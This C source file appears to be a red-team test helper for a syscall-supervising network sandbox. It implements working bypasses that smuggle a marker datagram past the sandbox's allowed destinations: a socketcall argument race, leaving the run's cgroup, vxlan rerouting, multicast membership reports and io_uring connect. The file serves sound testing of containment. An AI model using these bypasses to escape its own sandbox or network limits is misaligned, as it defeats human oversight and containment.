/* attack_found: the bypasses the red team found. Each subcommand tries to get
 * a datagram carrying MARKER to HOST:PORT, which the run does not allow, and
 * prints what it achieved; the tests judge by what reached their sinks.
 *
 *   udplite HOST PORT              native UDP-Lite connect + write, sendto
 *                                  (no race: the baseline that holds)
 *   sc-udplite HOST PORT N         (i386) socketcall(connect) whose argument
 *                                  array a CLONE_VM process rewrites from a
 *                                  unix socket and path to a UDP-Lite socket
 *                                  and HOST:PORT; once connected, write()
 *   sc-udp-outside HOST PORT N     (i386, root) moves itself out of the run's
 *                                  cgroup, then the same race with plain UDP
 *   vxlan ALLOWED_HOST ALLOWED_PORT SINK_HOST SINK_PORT DEV  (root)
 *                                  a vxlan device whose remote is the sink,
 *                                  a route sending the allowed address into
 *                                  it; then an allowed UDP send
 *   vxlan-outside ...              the same after leaving the run's cgroup
 *   igmp GROUP4 IFADDR4            (any user) joins GROUP4 on the interface
 *                                  of IFADDR4: the kernel itself sends IGMP
 *                                  membership reports naming the group
 *   mld GROUP6 IFNAME              (any user) the same in IPv6 (MLD reports)
 *   uring-udplite HOST PORT        (built with -DWITH_URING -luring) a UDP-Lite
 *                                  socket connected by IORING_OP_CONNECT,
 *                                  then write()
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/net.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#ifdef WITH_URING
#include <liburing.h>
#endif

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif

static const char MARKER[] = "attack_found-leak";

static void usage(void) {
    fprintf(stderr, "usage: attack_found udplite|sc-udplite|sc-udp-outside|vxlan ...\n");
    exit(2);
}

static struct sockaddr_in inet_addr_of(const char *host, const char *port) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1) {
        fprintf(stderr, "bad address %s\n", host);
        exit(2);
    }
    return sin;
}

static int cmd_udplite(const char *host, const char *port) {
    struct sockaddr_in sin = inet_addr_of(host, port);
    int s = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
    if (s < 0) {
        printf("udplite: socket: %s\n", strerror(errno));
        return 0;
    }
    int c = connect(s, (struct sockaddr *)&sin, sizeof(sin));
    int ce = errno;
    long w = c == 0 ? write(s, MARKER, sizeof MARKER - 1) : -1;
    int s2 = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
    long t = sendto(s2, MARKER, sizeof MARKER - 1, 0, (struct sockaddr *)&sin, sizeof(sin));
    int te = errno;
    printf("udplite: connect=%d (%s) write=%ld sendto=%ld (%s)\n", c, c ? strerror(ce) : "ok", w, t,
           t < 0 ? strerror(te) : "ok");
    return 0;
}

/* ---- i386 socketcall: the array is read again by the kernel after CONTINUE ---- */

struct shared {
    volatile int stop;
    volatile long args[3];
    volatile long alt[2][3]; /* [0] what the supervisor decides on, [1] the rewrite */
};

static struct shared *sh;

__attribute__((unused)) static int rewriter(void *arg) {
    (void)arg;
    while (!sh->stop) {
        for (int i = 0; i < 3; i++)
            sh->args[i] = sh->alt[0][i];
        for (volatile int i = 0; i < 30; i++) {
        }
        for (int i = 0; i < 3; i++)
            sh->args[i] = sh->alt[1][i];
        for (volatile int i = 0; i < 30; i++) {
        }
    }
    return 0;
}

/* Leaves the run's cgroup (root): the kernel layer's hooks run against the
 * cgroup of a socket's creator. */
__attribute__((unused)) static int leave_cgroup(void) {
    char line[512], path[1100];
    FILE *f = fopen("/proc/self/cgroup", "r");
    if (!f)
        return -1;
    char cg[512] = "";
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "0::", 3) == 0) {
            snprintf(cg, sizeof cg, "%s", line + 3);
            cg[strcspn(cg, "\n")] = 0;
        }
    fclose(f);
    /* The cgroup2 mount point. */
    char mnt[512] = "";
    f = fopen("/proc/self/mountinfo", "r");
    if (!f)
        return -1;
    while (fgets(line, sizeof line, f)) {
        char *dash = strstr(line, " - cgroup2 ");
        if (!dash)
            continue;
        char root[256], mp[256];
        if (sscanf(line, "%*s %*s %*s %255s %255s", root, mp) == 2 && strcmp(root, "/") == 0) {
            snprintf(mnt, sizeof mnt, "%s", mp);
            break;
        }
    }
    fclose(f);
    if (!*mnt || !*cg)
        return -1;
    /* Two levels up (out of sockstrace/run-...): the parent of "sockstrace". */
    char *p = strrchr(cg, '/');
    if (p)
        *p = 0;
    p = strrchr(cg, '/');
    if (p)
        *p = 0;
    snprintf(path, sizeof path, "%s%s/cgroup.procs", mnt, cg);
    int fd = open(path, O_WRONLY);
    if (fd < 0) {
        printf("leave: open %s: %s\n", path, strerror(errno));
        return -1;
    }
    int ok = write(fd, "0", 1) == 1;
    close(fd);
    f = fopen("/proc/self/cgroup", "r");
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "0::", 3) == 0)
            printf("leave: now in %s", line + 3);
    if (f)
        fclose(f);
    return ok ? 0 : -1;
}

static int cmd_sc_race(int proto, int outside, const char *host, const char *port, int n) {
#ifndef SYS_socketcall
    (void)proto;
    (void)outside;
    (void)host;
    (void)port;
    (void)n;
    printf("socketcall: not this ABI\n");
    return 1;
#else
    if (outside && leave_cgroup() != 0) {
        printf("leave: failed\n");
        return 1;
    }
    sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (sh == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    static struct sockaddr_in sin;
    static struct sockaddr_un sun;
    sin = inet_addr_of(host, port);
    memset(&sun, 0, sizeof(sun));
    sun.sun_family = AF_UNIX;
    strcpy(sun.sun_path, "/nonexistent/attack_found.sock");
    int u = socket(AF_UNIX, SOCK_DGRAM, 0);
    int d = socket(AF_INET, SOCK_DGRAM, proto);
    if (u < 0 || d < 0) {
        printf("socketcall: socket: %s\n", strerror(errno));
        return 1;
    }
    long a0[3] = {u, (long)(uintptr_t)&sun, sizeof(sun)};
    long a1[3] = {d, (long)(uintptr_t)&sin, sizeof(sun)};
    for (int i = 0; i < 3; i++) {
        sh->alt[0][i] = a0[i];
        sh->alt[1][i] = a1[i];
        sh->args[i] = a0[i];
    }
    size_t stack_size = 1 << 16;
    char *stack = mmap(NULL, stack_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t child = clone(rewriter, stack + stack_size, CLONE_VM | SIGCHLD, NULL);
    if (child < 0) {
        perror("clone");
        return 1;
    }
    int ok = 0, connected = 0, sent = 0, eperm = 0, other = 0;
    for (int i = 0; i < n && !connected; i++) {
        long r = syscall(SYS_socketcall, SYS_CONNECT, sh->args);
        if (r < 0) {
            if (errno == EPERM)
                eperm++;
            else
                other++;
            continue;
        }
        ok++;
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        if (getpeername(d, (struct sockaddr *)&peer, &len) == 0)
            connected++;
    }
    sh->stop = 1;
    waitpid(child, NULL, 0);
    if (connected) {
        /* write() is never trapped: it goes to the peer the kernel holds. */
        for (int i = 0; i < 3; i++)
            if (write(d, MARKER, sizeof MARKER - 1) > 0)
                sent++;
    }
    printf("socketcall: ok=%d connected=%d sent=%d eperm=%d other=%d\n", ok, connected, sent, eperm, other);
    fflush(stdout);
    return 0;
#endif
}

/* ---- CAP_NET_ADMIN: a tunnel device moves the allowed destination ---- */

static int run(const char *cmd) {
    int r = system(cmd);
    printf("vxlan: %s -> %d\n", cmd, r);
    return r;
}

static int cmd_vxlan(const char *ahost, const char *aport, const char *shost, const char *sport, const char *dev) {
    char cmd[512];
    snprintf(cmd, sizeof cmd, "ip link add stvx0 type vxlan id 42 remote %s dstport %s dev %s", shost, sport, dev);
    if (run(cmd) != 0)
        return 1;
    if (run("ip addr add 10.250.0.2/24 dev stvx0") != 0 || run("ip link set stvx0 up") != 0)
        return 1;
    snprintf(cmd, sizeof cmd, "ip route replace %s/32 dev stvx0", ahost);
    if (run(cmd) != 0)
        return 1;
    snprintf(cmd, sizeof cmd, "ip neigh replace %s lladdr 02:00:00:00:00:01 dev stvx0", ahost);
    if (run(cmd) != 0)
        return 1;
    /* Now an allowed send: the supervisor judges the allowed address. */
    struct sockaddr_in sin = inet_addr_of(ahost, aport);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    int sent = 0;
    for (int i = 0; i < 3; i++)
        if (sendto(s, MARKER, sizeof MARKER - 1, 0, (struct sockaddr *)&sin, sizeof sin) > 0)
            sent++;
    printf("vxlan: sent=%d\n", sent);
    fflush(stdout);
    usleep(200000);
    return 0;
}

/* ---- kernel-sent packets: multicast membership reports ---- */

static int cmd_igmp(const char *group, const char *ifaddr) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ip_mreq mreq;
    memset(&mreq, 0, sizeof mreq);
    if (inet_pton(AF_INET, group, &mreq.imr_multiaddr) != 1 || inet_pton(AF_INET, ifaddr, &mreq.imr_interface) != 1)
        usage();
    int r = setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mreq, sizeof mreq);
    printf("igmp: join=%d (%s)\n", r, r ? strerror(errno) : "ok");
    /* Reports go out at once and again shortly after. */
    usleep(1500000);
    return 0;
}

static int cmd_mld(const char *group, const char *ifname) {
    int s = socket(AF_INET6, SOCK_DGRAM, 0);
    struct ipv6_mreq mreq;
    memset(&mreq, 0, sizeof mreq);
    if (inet_pton(AF_INET6, group, &mreq.ipv6mr_multiaddr) != 1)
        usage();
    mreq.ipv6mr_interface = if_nametoindex(ifname);
    int r = setsockopt(s, IPPROTO_IPV6, IPV6_JOIN_GROUP, &mreq, sizeof mreq);
    printf("mld: join=%d (%s)\n", r, r ? strerror(errno) : "ok");
    usleep(1500000);
    return 0;
}

#ifdef WITH_URING
static int cmd_uring_udplite(const char *host, const char *port) {
    struct sockaddr_in sin = inet_addr_of(host, port);
    struct io_uring ring;
    int r = io_uring_queue_init(4, &ring, 0);
    if (r < 0) {
        printf("setup: errno=%d (%s)\n", -r, strerror(-r));
        return 0;
    }
    printf("setup: ok\n");
    int s = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_connect(sqe, s, (struct sockaddr *)&sin, sizeof sin);
    io_uring_submit(&ring);
    struct io_uring_cqe *cqe;
    io_uring_wait_cqe(&ring, &cqe);
    int res = cqe->res;
    io_uring_cqe_seen(&ring, cqe);
    int sent = 0;
    if (res == 0)
        for (int i = 0; i < 3; i++)
            if (write(s, MARKER, sizeof MARKER - 1) > 0)
                sent++;
    printf("uring-connect: res=%d sent=%d\n", res, sent);
    io_uring_queue_exit(&ring);
    return 0;
}
#endif

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2)
        usage();
    const char *cmd = argv[1];
    if (strcmp(cmd, "udplite") == 0 && argc == 4)
        return cmd_udplite(argv[2], argv[3]);
    if (strcmp(cmd, "sc-udplite") == 0 && argc == 5)
        return cmd_sc_race(IPPROTO_UDPLITE, 0, argv[2], argv[3], atoi(argv[4]));
    if (strcmp(cmd, "sc-udp-outside") == 0 && argc == 5)
        return cmd_sc_race(0, 1, argv[2], argv[3], atoi(argv[4]));
    if (strcmp(cmd, "vxlan") == 0 && argc == 7)
        return cmd_vxlan(argv[2], argv[3], argv[4], argv[5], argv[6]);
    if (strcmp(cmd, "vxlan-outside") == 0 && argc == 7) {
        if (leave_cgroup() != 0) {
            printf("leave: failed\n");
            return 1;
        }
        return cmd_vxlan(argv[2], argv[3], argv[4], argv[5], argv[6]);
    }
    if (strcmp(cmd, "igmp") == 0 && argc == 4)
        return cmd_igmp(argv[2], argv[3]);
    if (strcmp(cmd, "mld") == 0 && argc == 4)
        return cmd_mld(argv[2], argv[3]);
#ifdef WITH_URING
    if (strcmp(cmd, "uring-udplite") == 0 && argc == 4)
        return cmd_uring_udplite(argv[2], argv[3]);
#endif
    usage();
    return 2;
}
